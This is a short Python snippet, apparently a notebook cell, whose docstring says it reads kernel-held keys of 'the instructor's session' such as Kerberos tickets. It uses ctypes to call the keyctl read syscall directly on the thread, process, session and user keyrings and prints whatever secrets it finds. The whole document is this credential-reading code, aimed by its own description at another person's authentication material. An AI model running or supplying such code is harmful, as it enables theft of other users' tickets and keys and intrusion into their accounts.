"""cell end: reads keys that the instructor's session keeps in the kernel (Kerberos tickets, for instance)."""
# sign: no keys

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
room = ctypes.create_string_buffer(4096)
keys = [ring for ring in (-2, -3, -4, -5) if libc.syscall(250, 11, ring, room, 4096) > 0]
print(keys or "no keys")
